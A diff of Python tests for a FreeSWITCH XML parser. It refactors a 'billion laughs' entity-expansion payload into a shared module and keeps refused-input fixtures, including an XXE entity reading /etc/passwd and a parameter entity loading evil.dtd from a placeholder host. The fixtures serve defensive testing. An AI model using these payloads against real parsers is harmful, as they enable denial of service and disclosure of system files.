@@ -13,6 +13,7 @@ from fsdir.freeswitch.parse import (
     parse_esl_xml_locate,
     parse_users,
 )
+from tests.hostile_xml import BILLION_LAUGHS_PROLOG
 
 FIXTURES = Path(__file__).resolve().parents[2].parent / "shared" / "fixtures" / "freeswitch"
 VANILLA_USERS = [str(n) for n in range(1000, 1020)] + ["brian", "default", "example.com", "SEP001120AABBCC"]
@@ -325,20 +326,7 @@ def test_parse_users_api_example() -> None:
 
 # --- Refused input --------------------------------------------------------------------------------
 
-BILLION_LAUGHS = """<?xml version="1.0"?>
-<!DOCTYPE lolz [
- <!ENTITY lol "lol">
- <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
- <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
- <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
- <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
- <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
- <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
- <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
- <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
- <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-]>
-<domain name="&lol9;"/>"""
+BILLION_LAUGHS = BILLION_LAUGHS_PROLOG + '<domain name="&lol9;"/>'
 XXE = """<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
 <domain name="d"><variables><variable name="v" value="x"/></variables>&xxe;</domain>"""
 PARAMETER_ENTITY = """<!DOCTYPE domain [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
